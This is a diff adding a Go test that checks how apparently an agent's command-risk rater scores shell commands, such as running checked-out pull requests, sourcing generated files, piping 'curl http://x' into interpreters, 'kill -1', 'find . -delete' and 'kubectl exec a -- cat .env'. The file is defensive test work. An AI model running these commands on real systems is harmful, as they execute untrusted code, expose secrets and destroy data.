@@ -234,6 +234,35 @@ func TestRiskOfEverydayChores(t *testing.T) {
 		`node --input-type=module -e "import './a.js'; console.log(1)"`)
 }
 
+// What others propose, and what a program prints into a file, is not run without a question.
+func TestRiskOfRunningWhatIsNotSeen(t *testing.T) {
+	t.Parallel()
+	for _, get := range each(`gh pr checkout|co 1, glab mr checkout 1, git fetch origin pull/1/head|refs/pull/1/head|merge-requests/1/head:a && git checkout FETCH_HEAD,
+		git pull http://x/a|git@x:a|ssh://x/a main`) {
+		rated(t, "high", each(get+` && npm|pnpm|yarn install|test|ci, `+get+` && make|./a.sh|pytest|sh\ a.sh|cargo\ test|go\ test\ ./...|make\ -C\ b`)...)
+		rated(t, "medium", get, get+" && git log", get+" && grep -r a .", "make && "+get)
+	}
+	for _, run := range each(`sh|bash|.|source x, chmod +x x && ./x`) {
+		rated(t, "high", each(`sqlite3 a 'select\ b' > x; `+run+`, psql -Atc 'select\ b'|"$y" >> x && `+run+`, jq -r .a b > x; `+run+`,
+			kubectl get cm a > x; `+run+`, dig +short txt a > x; `+run+`,
+			cat <(jq\ .a\ b) > x; `+run+`, cp|mv|install <(echo\ 'sudo\ a') x; `+run+`, cat <(echo\ 'sudo\ a') > x; `+run+`,
+			./a > x; `+run)...)
+		rated(t, "high", "jq -r .a b | tee x; "+run, "jq -r .a b | sed 1d > x; "+run, "psql -c 'select b' | sort | cat > x; "+run)
+		rated(t, "medium", "head -1 y | sort > x; "+run)
+		rated(t, "medium", each(`sed s/a/b/ y > x; `+run+`, cat a b > x; `+run+`, envsubst < y > x && `+run+`,
+			jq .a b > y; `+run+`, cp <(echo\ 'ls') x; `+run+`, sqlite3 a .tables; `+run)...)
+	}
+	rated(t, "high", each(`python3|node|ruby|perl /dev/stdin|/dev/fd/0|/proc/self/fd/0 < <(curl\ http://x), python3 /dev/fd/3 3< <(curl\ http://x),
+		xargs|xargs\ -n1 env|nice|timeout\ 5|stdbuf|nohup, curl -o a.vsix http://x && code|codium --install-extension a.vsix,
+		git clone http://x/a && cd a && git submodule update --init && make`)...)
+	rated(t, "medium", each(`git clone http://x/a && cd a && git submodule update --init|checkout\ b|lfs\ pull, code|cursor --install-extension a.b,
+		pkill -f vite|'node\ server.js'|'npm\ run\ dev'|manage.py, pkill -9|-TERM -f vite, kill -s|-n TERM|9 1234,
+		kubectl|oc exec a -- ls|cat\ /a|ps\ aux, kubectl exec -n b a -c d -- tail -n 5 a, rsync -avn|-az\ --dry-run a host:b,
+		rsync -a --dry-run --exclude=a b host:c`)...)
+	rated(t, "high", each(`pkill vite|node|-f\ a|-f\ bash|-f\ .|-f\ node|-f\ ssh|-u\ root\ -f\ vite, kill -s TERM|-1 -1 2|1, kubectl exec a -- env|rm\ a|sh,
+		kubectl exec a -- cat .env|'ls;\ rm\ a'|find\ .\ -delete|sh\ -c\ ls, rsync -a b host:c, rsync -e ./x -n a host:b, rsync -e -n a host:b, kubectl exec -it a -- bash`)...)
+}
+
 // What was downloaded is not run by other programs without a question, and what was put aside is not sent.
 func TestRiskOfMorePartsTogether(t *testing.T) {
 	t.Parallel()
